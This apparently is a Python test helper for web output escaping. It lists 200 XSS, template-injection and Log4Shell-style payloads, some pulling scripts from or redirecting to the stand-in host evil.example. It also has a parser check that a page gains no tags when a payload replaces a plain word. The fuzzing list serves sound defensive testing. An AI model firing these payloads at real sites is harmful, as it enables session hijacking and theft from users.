"""Two hundred texts that want to be more than text on a page: every field that people or callers fill is given them.

`same_tags(page, plain)` is what a page with one of them has to be: built as it is with a plain word instead.
"""

from __future__ import annotations

from html.parser import HTMLParser
from typing import Final

_VECTORS: Final = [
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<script/x>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<IMG SRC=javascript:alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<svg><script>alert&#40;1&#41;</script>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='java&#x09;script:alert(1)'>x</a>",
    "<math href=javascript:alert(1)>x</math>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<form action=javascript:alert(1)><button>x</form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<style>@import '//evil.example/x.css';</style>",
    "<template><img src=x onerror=alert(1)></template>",
    "<div hx-get=/people hx-trigger=load>x</div>",
    "<div data-hx-post=/sign-out hx-trigger=load>x</div>",
    "<div hx-on:click=alert(1)>x</div>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "{{ 7*7 }}{{ visit.behind.settings.secret }}",
    "{% for x in [].__class__.__base__.__subclasses__() %}{% endfor %}",
    "${SHELL(id)}${jndi:ldap://evil.example/x}",
    "{visit.csrf}{0.__class__}",
]
_WRAPPINGS: Final = ["{}", '">{}', "'>{}", "</textarea></title></script>{}", "%3C{}\u202e"]
PAYLOADS: Final[tuple[str, ...]] = tuple(
    wrapping.replace("{}", vector) for wrapping in _WRAPPINGS for vector in _VECTORS
)


class _Tags(HTMLParser):
    """Every tag of a page with its attributes, as a browser would see them."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.seen: list[tuple[str, tuple[tuple[str, str | None], ...]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.seen.append((tag, tuple(attrs)))


def tags_of(page: str) -> list[tuple[str, tuple[tuple[str, str | None], ...]]]:
    """The tags of a page, in their order."""
    parser = _Tags()
    parser.feed(page)
    return parser.seen


def same_tags(page: str, plain: str) -> bool:
    """Whether a page with a payload has the very tags and attributes that it has with a plain word in its place."""
    return [(tag, [name for name, _ in attributes]) for tag, attributes in tags_of(page)] == [
        (tag, [name for name, _ in attributes]) for tag, attributes in tags_of(plain)
    ]
